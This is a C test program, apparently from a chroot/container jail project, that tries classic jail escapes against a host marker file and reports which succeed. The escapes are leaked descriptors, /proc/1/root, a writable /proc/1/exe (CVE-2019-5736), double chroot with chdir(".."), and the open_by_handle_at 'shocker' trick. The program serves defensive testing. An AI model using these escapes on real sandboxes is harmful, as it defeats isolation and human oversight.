/* Tries the classic ways out of a chroot-style jail and reports each one. Usage: breakout HOST_MARKER
 * HOST_MARKER is an absolute path on the host that must stay unreachable from inside the jail.
 * Prints "ESCAPED via <technique>" for every technique that could read the marker and exits 1 if any did;
 * prints "blocked: <technique>: <reason>" otherwise. Run on the host itself it must escape (the control). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char* marker;
static int escaped;

static void report(const char* how, int fd, int err) {
  char buf[64] = {0};
  if (fd >= 0 && read(fd, buf, sizeof buf - 1) > 0 && strstr(buf, "droot-host-marker")) {
    printf("ESCAPED via %s\n", how);
    escaped = 1;
  } else {
    printf("blocked: %s: %s\n", how, fd >= 0 ? "marker not there" : strerror(err));
  }
  if (fd >= 0) close(fd);
}

static void try_open(const char* how, const char* path) {
  int fd = open(path, O_RDONLY);
  report(how, fd, errno);
}

/* From a directory fd, climb with ".." and look for the marker at every level. */
static void try_from_dir_fd(const char* how, int dir) {
  int cur = dup(dir);
  for (int i = 0; i < 64 && cur >= 0; ++i) {
    int fd = openat(cur, marker + 1, O_RDONLY);
    if (fd >= 0) {
      report(how, fd, 0);
      close(cur);
      return;
    }
    int up = openat(cur, "..", O_RDONLY | O_DIRECTORY);
    close(cur);
    cur = up;
  }
  if (cur >= 0) close(cur);
  report(how, -1, ENOENT);
}

int main(int argc, char** argv) {
  if (argc != 2 || argv[1][0] != '/') {
    fprintf(stderr, "usage: breakout /HOST/MARKER\n");
    return 2;
  }
  marker = argv[1];

  try_open("direct open", marker);

  /* Descriptors inherited from whoever started the jail (bash's `exec 7</`). */
  for (int fd = 3; fd < 1024; ++fd) {
    struct stat st;
    if (fstat(fd, &st) < 0) continue;
    char how[64];
    snprintf(how, sizeof how, "leaked fd %d", fd);
    if (S_ISDIR(st.st_mode))
      try_from_dir_fd(how, fd);
    else
      printf("ESCAPED via %s (an inherited descriptor is open)\n", how), escaped = 1;
  }

  char path[4096];
  snprintf(path, sizeof path, "/proc/1/root%s", marker);
  try_open("/proc/1/root", path);
  snprintf(path, sizeof path, "/proc/1/cwd%s", marker);
  try_open("/proc/1/cwd", path);
  {
    /* runc's CVE-2019-5736: overwrite the runtime's binary through the jail's PID 1. */
    int fd = open("/proc/1/exe", O_WRONLY);
    if (fd >= 0) printf("ESCAPED via /proc/1/exe (the jail's init binary is writable)\n"), escaped = 1, close(fd);
    else printf("blocked: /proc/1/exe: %s\n", strerror(errno));
  }
  {
    /* init must hold nothing but stdio, and its descriptors must not be reopenable. */
    DIR* d = opendir("/proc/1/fd");
    int leaked = 0, reopened = 0;
    if (d) {
      struct dirent* e;
      while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        if (atoi(e->d_name) <= 2) continue; /* the same stdio the command has anyway */
        ++leaked;
        snprintf(path, sizeof path, "/proc/1/fd/%s", e->d_name);
        int fd = open(path, O_RDONLY | O_NONBLOCK);
        if (fd >= 0) ++reopened, close(fd);
      }
      closedir(d);
    }
    if (leaked || reopened) printf("ESCAPED via /proc/1/fd (%d extra descriptors, %d reopened)\n", leaked, reopened), escaped = 1;
    else printf("blocked: /proc/1/fd: nothing to take\n");
  }

  /* chroot into a subdirectory, keep the cwd outside it, climb, chroot(".") — defeats a plain chroot. */
  mkdir("/tmp/.breakout", 0700);
  if (chroot("/tmp/.breakout") == 0) {
    for (int i = 0; i < 256; ++i) (void)!chdir("..");
    if (chroot(".") == 0) try_open("chroot + chdir(..)", marker);
    else report("chroot + chdir(..)", -1, errno);
  } else {
    report("chroot + chdir(..)", -1, errno);
  }

  /* "shocker": open the filesystem's root inode (ext4: inode 2) by handle, past every mount. */
  {
    struct { struct file_handle fh; unsigned char bytes[8]; } h;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
    unsigned int ino = 2;
    memcpy(h.fh.f_handle, &ino, 4);
    int mnt = open("/", O_RDONLY | O_DIRECTORY);
    int dir = open_by_handle_at(mnt, &h.fh, O_RDONLY | O_DIRECTORY);
    if (dir >= 0) try_from_dir_fd("open_by_handle_at", dir), close(dir);
    else report("open_by_handle_at", -1, errno);
    close(mnt);
  }
  return escaped;
}
